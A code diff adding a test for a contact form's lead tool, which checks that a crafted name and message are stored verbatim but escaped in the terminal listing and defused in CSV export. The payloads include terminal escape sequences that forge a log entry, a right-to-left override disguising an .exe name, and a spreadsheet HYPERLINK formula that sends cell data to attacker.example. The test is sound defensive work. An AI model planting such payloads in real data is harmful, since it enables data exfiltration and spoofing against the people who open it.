@@ -338,3 +338,53 @@ test("when the connection drops before the answer, Try again stores the message 
   expect(stored[0]!.data).toEqual(contactFields(visitor));
   forgiveFailedLoads(consoleProblems);
 });
+
+test("a hostile name reaches the lead tool escaped in its list and defused in its CSV", async ({
+  request,
+}, testInfo) => {
+  const tag = `${testInfo.project.name}-${randomUUID().slice(0, 8)}`;
+  const email = `mallory.${tag}@attacker.example`;
+  // Clear the screen, retitle the window, then fake a whole entry from the boss.
+  const name = `Mallory\u001b[2J\u001b]0;pwned\u0007\r\n\r\n2026-01-01T00:00:00.000Z  contact    Boss`;
+  const message = `=HYPERLINK("https://attacker.example/?"&A1,"Invoice") \u202egnp.exe ${tag}`;
+  const origin = new URL(testInfo.project.use.baseURL!).origin;
+  const answer = await request.post("/api/contact", {
+    headers: { Origin: origin, "Sec-Fetch-Site": "same-origin" },
+    data: {
+      id: randomUUID(),
+      elapsedMs: 8000,
+      website: "",
+      name,
+      email,
+      phone: "",
+      subject: "General Inquiry",
+      message,
+    },
+  });
+  expect(answer.status(), await answer.text()).toBe(201);
+
+  // JSON keeps exactly what was sent.
+  const [stored] = leadsFrom(testInfo, "contact", email);
+  expect(stored!.data.name).toBe(name);
+  expect(stored!.data.message).toBe(message);
+
+  // The readable list: one entry, every control character shown as an escape.
+  const list = leadTool(testInfo, ["list", "--kind", "contact"]);
+  // eslint-disable-next-line no-control-regex -- no control character may reach the terminal
+  expect(list).not.toMatch(/[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069]/);
+  const entry = list.split("\n\n").find((block) => block.includes(email))!;
+  expect(entry.split("\n")[0]).toContain(
+    "Mallory\\x1b[2J\\x1b]0;pwned\\x07\\r\\n\\r\\n2026-01-01T00:00:00.000Z  contact    Boss",
+  );
+  expect(entry).toContain("\\u202egnp.exe");
+
+  // The CSV: no control characters, and the formula is text.
+  const [header, ...rows] = parseCsv(leadTool(testInfo, ["export", "--csv"]));
+  const row = rows.find((cells) => cells[header!.indexOf("email")] === email)!;
+  expect(row[header!.indexOf("name")]).toBe(
+    "Mallory[2J]0;pwned\n\n2026-01-01T00:00:00.000Z  contact    Boss",
+  );
+  expect(row[header!.indexOf("message")]).toBe(
+    `'=HYPERLINK("https://attacker.example/?"&A1,"Invoice") gnp.exe ${tag}`,
+  );
+});
